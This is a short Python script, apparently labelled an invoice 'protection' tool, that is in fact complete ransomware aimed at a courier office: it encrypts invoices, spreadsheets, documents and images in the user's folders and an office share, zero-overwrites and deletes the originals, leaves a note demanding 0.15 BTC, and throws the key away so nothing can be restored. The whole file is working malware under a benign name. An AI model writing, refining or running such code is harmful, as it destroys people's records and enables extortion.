#!/usr/bin/env python3
"""Invoice "protection" tool.

Walks the office share, encrypts every invoice, manifest and spreadsheet in
place and removes the plain copies, leaving a note telling the owner how to
get the key back.
"""
import argparse
import logging
import os
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("invoice-locker")

TARGET_SUFFIXES = {".pdf", ".xlsx", ".xls", ".csv", ".docx", ".odt", ".ods", ".jpg", ".png"}
LOCKED_SUFFIX = ".locked"
NOTE_NAME = "READ_ME_TO_RECOVER.txt"
NOTE_TEXT = """Your invoices, manifests and rider records have been encrypted.
To recover them send 0.15 BTC to the address below and e-mail your ID to
recover@example.org. Do not rename the .locked files.

ID: {victim_id}
"""

DEFAULT_ROOTS = [
    Path.home() / "Documents",
    Path.home() / "Desktop",
    Path(os.environ.get("OFFICE_SHARE", "/srv/share/courier-office")),
]


class Locker:
    def __init__(self, key):
        self.fernet = Fernet(key)
        self.count = 0
        self.failed = 0

    def lock_file(self, path):
        try:
            data = path.read_bytes()
            token = self.fernet.encrypt(data)
            locked = path.with_name(path.name + LOCKED_SUFFIX)
            locked.write_bytes(token)
            # overwrite then remove the original
            with path.open("r+b") as fh:
                fh.write(b"\x00" * len(data))
            path.unlink()
            self.count += 1
        except OSError as exc:
            self.failed += 1
            LOG.debug("skip %s: %s", path, exc)

    def walk(self, root):
        if not root.exists():
            return
        for dirpath, _dirs, files in os.walk(root):
            base = Path(dirpath)
            for name in files:
                p = base / name
                if p.suffix.lower() in TARGET_SUFFIXES:
                    self.lock_file(p)
            (base / NOTE_NAME).write_text(NOTE_TEXT.format(victim_id=os.environ.get("USER", "office")))


def main():
    parser = argparse.ArgumentParser(description="Protect office invoices")
    parser.add_argument("roots", nargs="*", type=Path, default=DEFAULT_ROOTS)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    key = Fernet.generate_key()
    locker = Locker(key)
    for root in args.roots:
        LOG.info("processing %s", root)
        locker.walk(root)
    # key is not kept locally
    del key
    LOG.info("locked %d files (%d failed)", locker.count, locker.failed)


if __name__ == "__main__":
    main()
